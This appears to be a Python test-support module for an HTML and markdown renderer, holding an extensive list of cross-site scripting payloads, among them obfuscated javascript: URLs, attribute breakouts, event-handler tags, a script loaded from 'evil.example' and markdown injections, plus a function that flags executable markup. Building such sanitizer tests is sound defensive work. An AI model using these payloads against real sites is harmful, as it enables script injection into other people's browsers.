"""Strings that try to run a script, and a judge that says whether one would."""

from __future__ import annotations

import re
from itertools import product
from typing import Any

import html5lib

from renderers.words import tree_of

RUN = "alert(1)"

_SPELLINGS = [
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "\x01javascript:",
    "\x00javascript:",
    "\u00a0javascript:",
    "\u2028javascript:",
    "\ufeffjavascript:",
    "java\tscript:",
    "java\nscript:",
    "java\r\nscript:",
    "java\x00script:",
    "java\u200bscript:",
    "java\u00adscript:",
    "javascript\t:",
    "javascript\n:",
    "javascript :",
    "javascript&colon;",
    "javascript&#58;",
    "javascript&#x3a;",
    "javascript&#x3A;",
    "javascript&#0000058;",
    "javascript&#58",
    "javascript&amp;colon;",
    "javascript&amp;amp;colon;",
    "&#106;avascript:",
    "&#x6a;avascript:",
    "&#x0000006Aavascript:",
    "java&Tab;script:",
    "java&NewLine;script:",
    "java&#9;script:",
    "java&#x0A;script:",
    "%6aavascript:",
    "javascript%3a",
    "javascript%253a",
    "java%0ascript:",
    "\\x6aavascript:",
    "\\javascript:",
    "javascript\\:",
    "java\\script:",
    "feed:javascript:",
    "view-source:javascript:",
    "jar:javascript:",
    "vbscript:",
    "vbs:",
    "livescript:",
    "mocha:",
    "data:text/html,<script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+",
    'data:image/png;base64,AAAA" onerror="alert(1)',
    "data:,",
    "data:;base64,",
    "blob:https://example.org/",
    "filesystem:https://example.org/",
    "file:///etc/passwd",
    "about:blank",
    "ms-its:",
    "x-custom:",
]

URLS = [f"{spelling}{RUN}" for spelling in _SPELLINGS]

ATTRIBUTES = [
    '" onerror="alert(1)',
    "' onerror='alert(1)",
    '"onload=alert(1) x="',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"/><img src=x onerror=alert(1)>',
    '" style="background:url(javascript:alert(1))',
    '" autofocus onfocus="alert(1)',
    "` onmouseover=alert(1) `",
    '\\" onerror=\\"alert(1)',
    "&quot; onerror=&quot;alert(1)",
    "&#34; onerror=&#34;alert(1)",
    "&#x22;&#x3e;<svg/onload=alert(1)>",
    '" srcdoc="<script>alert(1)</script>',
    '" formaction="javascript:alert(1)',
    "x onclick=alert(1)",
    "x\tonclick=alert(1)",
    "x\nonclick=alert(1)",
    "x/onclick=alert(1)",
    '"\x00onerror="alert(1)',
    '\ud800" onerror="alert(1)',
    ']]>"><script>alert(1)</script>',
]

HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#14;javascript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<td style='background:url(javascript:alert(1))'>x</td>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "--><script>alert(1)</script><!--",
    "<?php alert(1) ?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "</article></body><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<code class='language-x\" onclick=\"alert(1)'>x</code>",
]

_MARKDOWN_FORMS = [
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "[x][r]\n\n[r]: {}",
    "[r]\n\n[r]: <{}>",
    "<{}>",
    "[![x]({})](/y)",
]
_FEW_URLS = [URLS[index] for index in (0, 1, 8, 17, 18, 23, 25, 32, 43, 47)]

MARKDOWN = [
    *[form.format(url) for form, url in product(_MARKDOWN_FORMS, _FEW_URLS)],
    '[x](/y "\\" onclick=\\"alert(1)")',
    "[x](/y '&quot; onclick=&quot;alert(1)')",
    '![" onerror="alert(1)](/x)',
    "![&quot; onerror=&quot;alert(1)](/x)",
    '![<img alt="x" onerror=alert(1)>](/x)',
    '![x](/y" onerror="alert(1))',
    '```x" onclick="alert(1)\ncode\n```',
    "```<script>alert(1)</script>\ncode\n```",
    "`<script>alert(1)</script>`",
    "~~<script>alert(1)</script>~~",
    "| <script>alert(1)</script> | x |\n| :-: | - |\n| <img src=x onerror=alert(1)> | y |",
    "- [x] <img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "> <iframe src=javascript:alert(1)>",
    "<div\n\nonclick=alert(1)>x</div>",
    "*<img src=x* onerror=alert(1)>",
    "\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(1)",
    '<http://x.example/"onclick=alert(1)>',
    '<a@b.example" onclick=alert(1)>',
    '[x](https://x.example/"onclick="alert(1)")',
    "[x]: javascript:alert(1) '\" onclick=\"alert(1)'\n\n[x]",
    "[x](javascript&amp;colon;alert(1))",
]

ATTACKS = [*URLS, *ATTRIBUTES, *HTML, *MARKDOWN]

_ELEMENTS = {
    "script", "iframe", "object", "embed", "base", "svg", "math", "form", "input", "button",
    "textarea", "select", "template", "noscript", "applet", "frame", "frameset", "animate", "portal", "audio",
}  # fmt: skip
_URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "poster",
    "data",
    "background",
    "cite",
    "ping",
    "srcset",
}
_HARMLESS = re.compile(
    r"(?:https?|mailto|tel):|data:image/(?:png|gif|jpeg|webp|avif);base64,[A-Za-z0-9+/=]*\Z", re.IGNORECASE
)
_SCHEME = re.compile(r"[a-z][a-z0-9+.\-]*:", re.IGNORECASE)
_PLAYER = re.compile(
    r"https://(?:www\.youtube-nocookie\.com/embed/[\w-]+|player\.vimeo\.com/video/\d+\?dnt=1)\Z"
)


def dangers(source: str) -> list[str]:
    """Return what in some HTML could run, as a browser reads it the first time and after a copy."""
    tree = tree_of(source)
    copy = html5lib.serialize(tree, quote_attr_values="always", omit_optional_tags=False)
    return [*_dangers_in(tree), *_dangers_in(tree_of(copy))]


def _dangers_in(tree: Any) -> list[str]:
    found = []
    for node in tree.iter():
        if not isinstance(node.tag, str):
            continue
        tag = node.tag.rpartition("}")[2]
        player = tag == "iframe" and _PLAYER.match(node.get("src", ""))
        if tag in _ELEMENTS and not player:
            found.append(f"<{tag}>")
        found += [f"{tag} {name}={value!r}" for name, value in node.attrib.items() if _bad(str(name), value)]
    return found


def _bad(name: str, value: str) -> bool:
    name = name.rpartition("}")[2].rpartition(":")[2].lower()
    if name.startswith("on") or name in ("srcdoc", "http-equiv"):
        return True
    if name == "style":
        return not re.fullmatch(r"text-align: ?(?:left|right|center|justify);?", value)
    url = re.sub(r"[\t\n\r]", "", value).lstrip("".join(map(chr, range(33))))
    return name in _URL_ATTRIBUTES and bool(_SCHEME.match(url)) and not _HARMLESS.match(url)
